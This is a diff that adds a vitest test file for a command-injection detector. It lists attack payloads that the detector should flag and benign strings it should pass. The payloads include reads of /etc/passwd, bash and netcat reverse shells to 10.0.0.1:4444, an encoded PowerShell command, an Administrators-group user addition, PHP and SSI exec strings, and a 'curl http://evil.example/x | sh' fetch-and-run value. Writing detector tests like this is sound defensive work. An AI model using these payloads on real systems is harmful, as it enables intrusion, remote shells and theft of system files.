@@ -1,0 +1,67 @@
+import { describe, expect, it } from 'vitest';
+import { detects, inHeader, inJson, inQuery } from '../testing.js';
+import { shellNormalize } from './cmdi.js';
+
+const ATTACKS = [
+  '; cat /etc/passwd',
+  '| whoami',
+  '$(id)',
+  '`id`',
+  '127.0.0.1 && ls -la',
+  '127.0.0.1 & ping -n 5 127.0.0.1 &',
+  "c'a't /etc/passwd;id",
+  ';${IFS}cat${IFS}/etc/passwd',
+  "a;w'h'o'am'i",
+  '; echo pwned > /tmp/pwn',
+  '\nid #',
+  '| net user',
+  'x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
+  '; nc -e /bin/sh 10.0.0.1 4444',
+  '& powershell -enc SQBFAFgA',
+  ';/???/c?t /???/p??s??',
+  '%0aid',
+  '| type C:\\Windows\\win.ini',
+  ";system('id')",
+  'a|id|',
+  'ls -la /',
+  'nc -lvvp 4444 -e /bin/sh',
+  'net localgroup Administrators hacker /ADD',
+  '{${phpinfo()}}',
+  '<?php system("cat /etc/passwd");?>',
+  '<!--#exec cmd="/bin/cat /etc/passwd"-->',
+  'dir C:\\Users',
+];
+const BENIGN = [
+  'Tom & Jerry',
+  'rock; paper; scissors',
+  '| id | name |\n|---|---|\n| 1 | bob |',
+  'Note; id must be unique',
+  'cat and dog; sleep well',
+  'R&D department',
+  'echo hello world',
+  'rm -rf is dangerous, do not run it',
+  'Use git log | grep fix',
+  'import React from \'react\';\nexport default function App() { return <div className="app">Hello</div>; }',
+];
+
+describe('cmdi detector', () => {
+  it.each(ATTACKS)('detects %s', (p) => {
+    expect(detects(inQuery(p), 'cmdi')).toBe(true);
+  });
+  it.each(BENIGN)('passes %s', (p) => {
+    expect(inQuery(p).attack).toBe(false);
+  });
+  it('undoes shell quoting tricks', () => {
+    expect(shellNormalize("c'a't")).toBe('cat');
+    expect(shellNormalize('w$@hoami')).toBe('whoami');
+    expect(shellNormalize('c\\at')).toBe('cat');
+    expect(shellNormalize('cat${ifs}/etc/passwd')).toBe('cat /etc/passwd');
+  });
+  it('inspects custom headers and JSON', () => {
+    expect(detects(inHeader('x-device-id', '; id #'), 'cmdi')).toBe(true);
+    expect(detects(inJson({ host: '8.8.8.8; curl http://evil.example/x | sh' }), 'cmdi')).toBe(true);
+  });
+  it('treats commands in markdown code spans of prose as weak', () => {
+    expect(inJson({ body: 'Try `ls -la /var/log` to see the files.' }).attack).toBe(false);
+  });
+});
